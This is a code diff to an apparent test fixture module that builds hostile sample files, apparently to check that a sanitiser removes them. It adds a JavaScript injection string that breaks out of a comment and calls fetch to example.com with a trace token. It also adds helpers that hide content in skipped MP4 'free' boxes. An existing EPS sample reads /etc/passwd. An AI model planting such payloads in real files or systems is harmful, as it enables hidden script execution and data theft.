@@ -17,6 +17,7 @@ EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\
 DOS_EPS = b"\xc5\xd0\xd3\xc6" + struct.pack("<IIIIIIH", 30, len(EPS), 0, 0, 0, 0, 0xFFFF) + EPS
 TRACE = b"carried-along-in-the-dark"
 """What may not be found in anything that is kept."""
+SCRIPT = b"*/=0;fetch('https://example.com/?'+'" + TRACE + b"')/*"
 
 
 def zipped(name: str = "payload.html", content: bytes = HTML) -> bytes:
@@ -107,7 +108,19 @@ def mp4_with(content: bytes) -> bytes:
     """A video with this in a box that players skip, at its beginning."""
     whole = clips.clip(audio=None)
     first = int.from_bytes(whole[:4], "big")
-    return whole[:first] + struct.pack(">I", 8 + len(content)) + b"free" + content + whole[first:]
+    return whole[:first] + boxed(content) + whole[first:]
+
+
+def mp4_before_its_index(content: bytes) -> bytes:
+    """A video with this in such a box behind its pictures, whose places it does not move."""
+    whole = clips.clip(audio=None)
+    at = whole.rindex(b"moov") - 4
+    return whole[:at] + boxed(content) + whole[at:]
+
+
+def boxed(content: bytes) -> bytes:
+    """A box that players skip, around this."""
+    return struct.pack(">I", 8 + len(content)) + b"free" + content
 
 
 def _page() -> tuple[bytes, ...]:
